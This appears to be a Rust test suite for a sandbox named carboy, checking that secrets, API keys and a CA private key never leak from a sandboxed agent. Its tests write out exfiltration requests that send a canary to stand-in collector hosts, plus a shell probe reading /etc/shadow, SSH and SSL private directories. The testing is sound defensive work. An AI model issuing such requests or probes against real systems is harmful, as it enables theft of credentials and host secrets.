//! What a bottle, and what carboy writes, may never hold: the host's secrets, the real keys, the authority's key.

use std::fs;
use std::path::Path;
use std::process::Stdio;

use crate::attack::CANARY_IS_KNOWN;
use crate::world::{CANARY, Person, REAL_KEY, REAL_OPENAI_KEY, World, http};
use crate::{Case, case, case_with};

const PYTHON: &str = "/usr/bin/python3";

pub fn cases() -> Vec<Case> {
    vec![
        case_with("no secret of the host is to be found inside, and no key", &[PYTHON], inside),
        case("no secret of the host and no key is in anything that carboy writes", written),
        case("neither the host's name nor its variables nor its homes are to be seen", host_facts),
    ]
}

/// A line of the authority's private key that no other file has.
fn authority_key(world: &World) -> String {
    let pem = fs::read_to_string(world.dir.join("home/ca/ca.key")).unwrap();
    assert!(pem.contains("PRIVATE KEY"));
    let line = pem.lines().filter(|line| !line.starts_with("-----")).max_by_key(|line| line.len()).unwrap();
    line.to_owned()
}

fn inside(person: Person) {
    let world = World::new(person);
    world.settings(CANARY_IS_KNOWN);
    world.write("user/.ssh/id_ed25519", "canary-in-the-home-4417");
    world.write("user/.netrc", "canary-in-the-home-4417");
    world.write("home/keys/deploy", "canary-beside-the-settings-9031");
    world.write("beside/notes.txt", "canary-beside-the-workspace-2260");
    world.write("project/leaks.py", include_str!("attacks/leaks.py"));
    // What is there is found.
    world.write("project/planted.txt", "canary-of-control-1176");
    // The first run makes the authority.
    world.run(&["true"]).expect_code(0);
    let secrets = [
        CANARY.to_owned(),
        REAL_KEY.to_owned(),
        REAL_OPENAI_KEY.to_owned(),
        authority_key(&world),
        "canary-in-the-home-4417".to_owned(),
        "canary-beside-the-settings-9031".to_owned(),
        "canary-beside-the-workspace-2260".to_owned(),
        "HOST_CANARY".to_owned(),
        "canary-of-control-1176".to_owned(),
    ];
    let reversed: Vec<String> = secrets.iter().map(|text| text.chars().rev().collect()).collect();
    let mut command = vec![PYTHON, "leaks.py"];
    command.extend(reversed.iter().map(String::as_str));
    let ran = world.run(&command).expect_code(0);
    let planted = world.project.join("planted.txt");
    assert_eq!(ran.stdout, format!("{}: canary-of-control-1176\nlooked at enough\n", planted.display()));
}

fn written(person: Person) {
    let world = World::new(person);
    world.settings(CANARY_IS_KNOWN);
    let mut agent = world.agent();
    let echo = [("authorization", "Bearer carboy-placeholder-openai-api-key")];
    for order in [
        http("POST", "https://notes.example/sink", &[], CANARY.as_bytes()),
        http("GET", &format!("https://notes.example/{CANARY}"), &[], b""),
        http("GET", &format!("https://notes.example/sink?q={CANARY}"), &[("x-note", CANARY)], b""),
        http("GET", &format!("https://{CANARY}.collector.example/"), &[], b""),
        http("GET", &format!("https://{CANARY}.wild.example/"), &[], b""),
        http("POST", "https://api.anthropic.com/v1/messages", &[("x-api-key", REAL_KEY)], CANARY.as_bytes()),
        http("POST", "https://api.openai.com/v1/chat/completions", &echo, b"not even JSON"),
        http("GET", "https://api.openai.com/v1/models", &echo, b""),
    ] {
        let report = agent.order(&order);
        let told = format!("{:?} {:?} {:?}", report.headers, report.body, report.error);
        assert!(!told.contains(REAL_OPENAI_KEY), "the agent was told the real key: {told}");
    }
    let ran = agent.finish();
    assert!(ran.refused("secret_known") >= 5, "{:#?}", ran.entries);
    world.assert_nothing_escaped();
    // What carboy says to the person, and every file that it left, but for those that hold secrets by their purpose.
    let secrets = [CANARY.to_owned(), REAL_KEY.to_owned(), REAL_OPENAI_KEY.to_owned(), authority_key(&world)];
    let mut places =
        vec![("standard error".to_owned(), ran.stderr.clone()), ("the summary".to_owned(), ran.summary.to_string())];
    for arguments in [
        &["logs"][..],
        &["logs", "--json"],
        &["audit", "tail"],
        &["audit", "query"],
        &["ps"],
        &["check"],
        &["doctor"],
        &["audit", "verify"],
    ] {
        let output = world.carboy(arguments).stdin(Stdio::null()).output().unwrap();
        let text = [output.stdout, output.stderr].concat();
        places.push((arguments.join(" "), String::from_utf8_lossy(&text).into_owned()));
    }
    files_below(&world.dir, &mut places);
    assert!(places.iter().any(|(place, _)| place.ends_with("audit.jsonl")), "the log is among them");
    for (place, text) in &places {
        if place.ends_with("ca/ca.key") {
            continue;
        }
        for secret in &secrets {
            assert!(!text.contains(secret.as_str()), "{secret} stands in {place}");
        }
    }
}

fn files_below(dir: &Path, found: &mut Vec<(String, String)>) {
    for entry in fs::read_dir(dir).unwrap().flatten() {
        let path = entry.path();
        if entry.file_type().unwrap().is_dir() {
            files_below(&path, found);
        } else if let Ok(bytes) = fs::read(&path) {
            found.push((path.display().to_string(), String::from_utf8_lossy(&bytes).into_owned()));
        }
    }
}

fn host_facts(person: Person) {
    let world = World::new(person);
    let name = fs::read_to_string("/proc/sys/kernel/hostname").unwrap().trim().to_owned();
    let script = format!(
        "uname -n; cat /etc/hostname /proc/sys/kernel/hostname; env | cut -d= -f1 | sort | tr '\\n' ' '; echo; \
         ls -A {0} {0}/home {0}/user /root /home/carboytest /var/lib /var/log /etc/shadow /etc/ssh /etc/ssl/private /boot /srv /media 2>/dev/null; \
         ls /home; ls -A /run /mnt /var; cat /proc/1/cgroup /proc/self/cgroup | sort -u",
        world.dir.display()
    );
    let output = world
        .carboy(&["run", "--bottle", "test", "--", "sh", "-c", &script])
        .env("SECRET_OF_THE_HOST", "1")
        .output()
        .unwrap();
    let stdout = String::from_utf8(output.stdout).unwrap();
    let lines: Vec<&str> = stdout.lines().collect();
    assert!(lines[..3].iter().all(|line| *line != name && *line == lines[0]), "{stdout}");
    let variables: Vec<&str> = lines[3].split_whitespace().collect();
    for variable in ["HOST_CANARY", "SECRET_OF_THE_HOST", "CARBOY_HOME"] {
        assert!(!variables.contains(&variable), "{variable}");
    }
    let shown = &lines[4..];
    // Of the directory around the workspace there is the workspace alone.
    assert!(shown.contains(&"project") && shown.contains(&"agent"), "{stdout}");
    for place in
        ["settings.yml", "bottles", "audit", "ca", "carboytest", "provider.pem", "shadow", "private", "syslog", "dpkg"]
    {
        assert!(!shown.contains(&place), "{place}: {stdout}");
    }
    assert!(
        shown.iter().all(|line| !line.contains("::/") || line.ends_with("::/") || line.ends_with(":/")),
        "{stdout}"
    );
}
